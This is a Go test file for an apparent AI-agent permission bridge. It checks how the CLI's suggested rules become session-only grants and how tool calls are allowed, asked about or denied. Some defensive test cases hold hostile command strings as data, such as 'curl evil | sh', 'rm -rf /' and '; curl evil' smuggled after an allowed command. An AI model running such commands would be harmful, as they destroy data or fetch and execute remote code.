package grants

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/agentbridge/agentbridge/config/policy"
	"github.com/agentbridge/agentbridge/store"
)

func TestAlwaysPermissions(t *testing.T) {
	raw := func(s string) json.RawMessage { return json.RawMessage(s) }
	rule := raw(`{"type":"addRules","rules":[{"toolName":"Bash","ruleContent":"npm test"}],"behavior":"allow","destination":"localSettings"}`)
	prefix := raw(`{"type":"addRules","rules":[{"toolName":"Bash","ruleContent":"git push:*"},{"toolName":"Read","ruleContent":"/srv/docs/**"}],"behavior":"allow","destination":"projectSettings"}`)
	replace := raw(`{"type":"replaceRules","rules":[{"toolName":"WebFetch","ruleContent":"domain:example.com"}],"behavior":"allow","destination":"userSettings"}`)
	denyRule := raw(`{"type":"addRules","rules":[{"toolName":"Bash","ruleContent":"rm:*"}],"behavior":"deny","destination":"localSettings"}`)
	noTool := raw(`{"type":"addRules","rules":[{"toolName":"","ruleContent":"x"}],"behavior":"allow","destination":"localSettings"}`)
	dirs := raw(`{"type":"addDirectories","directories":["/srv/project"],"destination":"localSettings"}`)
	mode := raw(`{"type":"setMode","mode":"acceptEdits","destination":"session"}`)
	bypass := raw(`{"type":"setMode","mode":"bypassPermissions","destination":"session"}`)
	remove := raw(`{"type":"removeRules","rules":[{"toolName":"Bash"}],"behavior":"deny","destination":"localSettings"}`)
	tests := []struct {
		name       string
		in         []json.RawMessage
		wantTypes  []string // type of each updatedPermissions entry, in order
		wantGrants []policy.Rule
		wantLabel  string
	}{
		{"none", nil, nil, nil, ""},
		{"rules win over a mode switch", []json.RawMessage{rule, dirs, mode}, []string{"addRules", "addDirectories"},
			[]policy.Rule{{Tool: "Bash", Match: "npm test", Action: "allow"}}, "adds the rule `Bash(npm test)` to this conversation"},
		{"prefix rule and a glob of another tool", []json.RawMessage{prefix}, []string{"addRules"},
			[]policy.Rule{{Tool: "Bash", Match: "git push *", Action: "allow"}, {Tool: "Read", Match: "/srv/docs/**", Action: "allow"}},
			"`Bash(git push:*), Read(/srv/docs/**)`"},
		{"replace becomes add", []json.RawMessage{replace}, []string{"addRules"},
			[]policy.Rule{{Tool: "WebFetch", Match: "domain:example.com", Action: "allow"}}, "WebFetch(domain:example.com)"},
		{"deny rules and rules without a tool are dropped", []json.RawMessage{denyRule, noTool, mode}, []string{"setMode"}, nil,
			"switches this session to `acceptEdits` mode"},
		{"only a mode", []json.RawMessage{mode}, []string{"setMode"}, nil, "switches this session to `acceptEdits` mode"},
		{"bypass and removals are never applied", []json.RawMessage{bypass, remove}, nil, nil, ""},
		{"directories alone", []json.RawMessage{dirs}, []string{"addDirectories"}, nil, "applies the agent's suggestion for this session"},
		{"garbage is skipped", []json.RawMessage{raw(`{`), raw(`[]`), rule}, []string{"addRules"},
			[]policy.Rule{{Tool: "Bash", Match: "npm test", Action: "allow"}}, "Bash(npm test)"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			perms, grants, label := AlwaysPermissions(tt.in)
			var types []string
			for _, p := range perms {
				var m map[string]any
				if err := json.Unmarshal(p, &m); err != nil {
					t.Fatalf("entry %s: %v", p, err)
				}
				if m["destination"] != "session" {
					t.Errorf("entry not limited to the session: %s", p)
				}
				types = append(types, m["type"].(string))
			}
			if !slices.Equal(types, tt.wantTypes) {
				t.Errorf("updatedPermissions types = %v, want %v (%s)", types, tt.wantTypes, perms)
			}
			if !slices.Equal(grants, tt.wantGrants) {
				t.Errorf("grants = %+v, want %+v", grants, tt.wantGrants)
			}
			if !strings.Contains(label, tt.wantLabel) || (tt.wantLabel == "") != (label == "") {
				t.Errorf("label = %q, want it to contain %q", label, tt.wantLabel)
			}
		})
	}
	// The rules sent to the CLI are the CLI's own, not the bridge's globs.
	perms, _, _ := AlwaysPermissions([]json.RawMessage{prefix})
	var got struct {
		Rules []struct{ ToolName, RuleContent string }
	}
	if err := json.Unmarshal(perms[0], &got); err != nil || len(got.Rules) != 2 || got.Rules[0].RuleContent != "git push:*" {
		t.Errorf("rules sent to the CLI = %s (%v)", perms[0], err)
	}
}

func TestGrantFromCLIRule(t *testing.T) {
	tests := []struct {
		tool, content string
		want          policy.Rule
		ok            bool
		matches       []string // subjects the grant allows
		not           []string // subjects it does not
	}{
		{"Bash", "git push:*", policy.Rule{Tool: "Bash", Match: "git push *", Action: "allow"}, true,
			[]string{"git push origin main"}, []string{"git pushx", "git status"}},
		{"Bash", "touch ran.txt && echo hello", policy.Rule{Tool: "Bash", Match: "touch ran.txt && echo hello", Action: "allow"}, true,
			[]string{"touch ran.txt && echo hello"}, []string{"touch ran.txt && echo hello; curl evil", "touch ran.txt"}},
		{"Bash", "ls *.go", policy.Rule{Tool: "Bash", Match: `ls *.go`, Action: "allow"}, true,
			[]string{"ls *.go"}, []string{"ls a.go", "ls *.go; rm -rf /"}},
		{"Bash", "echo [x]?", policy.Rule{Tool: "Bash", Match: `echo [x]?`, Action: "allow"}, true,
			[]string{"echo [x]?"}, []string{"echo x!"}},
		{"Bash", "npm test && curl x:*", policy.Rule{}, false, nil, nil}, // a compound prefix is no pattern
		{"Bash", "ls *", policy.Rule{Tool: "Bash", Match: "ls *", Action: "allow"}, true,
			[]string{"ls *", "ls -la"}, []string{"ls; rm -rf /"}},
		{"Read", "/srv/docs/*", policy.Rule{Tool: "Read", Match: "/srv/docs/*", Action: "allow"}, true,
			[]string{"/srv/docs/a/b.md"}, []string{"/etc/passwd"}},
		{"mcp__github__create_issue", "", policy.Rule{Tool: "mcp__github__create_issue", Action: "allow"}, true,
			[]string{""}, nil},
		{"", "x", policy.Rule{}, false, nil, nil},
	}
	for _, tt := range tests {
		got, ok := FromCLIRule(tt.tool, tt.content)
		if ok != tt.ok || got != tt.want {
			t.Errorf("FromCLIRule(%q, %q) = %+v, %v; want %+v, %v", tt.tool, tt.content, got, ok, tt.want, tt.ok)
			continue
		}
		grants := []store.Grant{{Num: 1, Tool: got.Tool, Match: got.Match}}
		for _, s := range tt.matches {
			if v, g := Decide(nil, grants, tt.tool, s); v.Action != policy.ActionAllow || g == nil {
				t.Errorf("grant %+v does not allow %q: %+v", got, s, v)
			}
		}
		for _, s := range tt.not {
			if v, _ := Decide(nil, grants, tt.tool, s); v.Action == policy.ActionAllow {
				t.Errorf("grant %+v allows %q", got, s)
			}
		}
	}
}

func TestDecidePolicy(t *testing.T) {
	profile := []policy.Rule{
		{Tool: "Bash", Match: "rm *", Action: "deny"},
		{Tool: "Bash", Match: "git *", Action: "ask"},
		{Tool: "Read", Action: "allow"},
	}
	grants := []store.Grant{{Num: 1, Tool: "Bash", Match: "rm build/x"}, {Num: 2, Tool: "Bash", Match: "git push *"},
		{Num: 3, Tool: "Bash", Match: "make *"}, {Num: 4, Tool: "Bash", Match: "go vet ./... && go test ./..."}}
	tests := []struct {
		subject, tool string
		action        string // "" = nothing matched
		byGrant       bool
	}{
		{"rm build/x", "Bash", "deny", false}, // the profile's deny comes first
		{"git push x", "Bash", "ask", false},  // as does its ask
		{"make test", "Bash", "allow", true},  // then the grants
		{"make test && make lint", "Bash", "allow", true},
		{"make test; curl evil | sh", "Bash", "", false},
		{"go vet ./... && go test ./...", "Bash", "allow", true}, // an exact compound grant
		{"go vet ./... && go test ./... && rm -rf ~", "Bash", "deny", false},
		{"/etc/hosts", "Read", "allow", false}, // a profile allow
		{"ls", "Bash", "", false},
	}
	for _, tt := range tests {
		v, g := Decide(profile, grants, tt.tool, tt.subject)
		if v.Action != tt.action || (g != nil) != tt.byGrant {
			t.Errorf("Decide(%s %q) = %+v grant=%v; want %q byGrant=%v", tt.tool, tt.subject, v, g, tt.action, tt.byGrant)
		}
	}
	if len(profile) != 3 || cap(profile) != 3 {
		t.Fatal("Decide changed the profile's rules")
	}
}
